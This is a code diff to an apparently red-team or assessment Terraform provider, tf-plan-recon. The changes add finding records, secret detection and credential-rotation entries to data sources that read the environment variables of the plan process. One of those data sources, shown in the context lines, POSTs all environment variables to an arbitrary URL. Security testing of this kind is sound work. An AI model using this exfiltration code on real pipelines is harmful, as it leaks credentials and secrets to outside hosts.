@@ -12,6 +12,7 @@ import (
 
 	"github.com/hashicorp/terraform-plugin-sdk/v2/diag"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/schema"
+	"github.com/rileydakota/tf-plan-recon/detector"
 )
 
 // EnvVarExfil returns the schema for environment variable exfiltration data source
@@ -49,7 +50,7 @@ func envVarExfilRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		return diag.FromErr(fmt.Errorf("error marshaling environment variables: %s", err))
 	}
 
-	req, err := http.NewRequest("POST", url, bytes.NewBuffer(payload))
+	req, err := http.NewRequestWithContext(ctx, "POST", url, bytes.NewBuffer(payload))
 	if err != nil {
 		return diag.FromErr(fmt.Errorf("error creating request: %s", err))
 	}
@@ -66,6 +67,12 @@ func envVarExfilRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		return diag.FromErr(fmt.Errorf("POST request failed with status: %d", resp.StatusCode))
 	}
 
+	diags = append(diags, recordFindings(m, withDetections(newFinding("tfplanrecon_env_var_exfil", SeverityHigh,
+		"Environment Variables Exfiltrated",
+		fmt.Sprintf("Sent %d environment variables from the plan process to %s", len(envVars), url),
+		url), detector.DetectAll(envVars)))...)
+	diags = append(diags, observeCredentials(m, envRotationEntries("tfplanrecon_env_var_exfil", envVars)...)...)
+
 	d.SetId(url)
 	return diags
 }
@@ -117,6 +124,12 @@ func envVarPrintRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		})
 	}
 	
+	diags = append(diags, recordFindings(m, withDetections(newFinding("tfplanrecon_env_var_print", SeverityHigh,
+		"Environment Variables Disclosed",
+		fmt.Sprintf("%d environment variables of the plan process were readable by the provider", len(envVars))),
+		detector.DetectAll(envVars)))...)
+	diags = append(diags, observeCredentials(m, envRotationEntries("tfplanrecon_env_var_print", envVars)...)...)
+
 	d.SetId("env_var_print")
 	return diags
 }